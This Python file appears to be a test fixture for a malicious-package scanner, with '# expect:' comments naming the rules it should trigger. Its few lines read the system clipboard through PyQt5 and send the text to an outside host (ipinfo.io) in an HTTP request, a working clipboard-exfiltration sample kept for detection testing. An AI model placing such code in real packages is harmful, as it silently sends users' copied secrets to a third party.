# ruff: noqa
# fmt: off
"""Qt's clipboard, read by a package that has no window of its own."""
import sys

import requests
from PyQt5.QtWidgets import QApplication

app = QApplication(sys.argv)
text = QApplication.clipboard().text()  # expect: clipboard-access
requests.get("https://ipinfo.io/json", params={"c": text})  # expect: exfiltrate-sensitive-data|suspicious-url
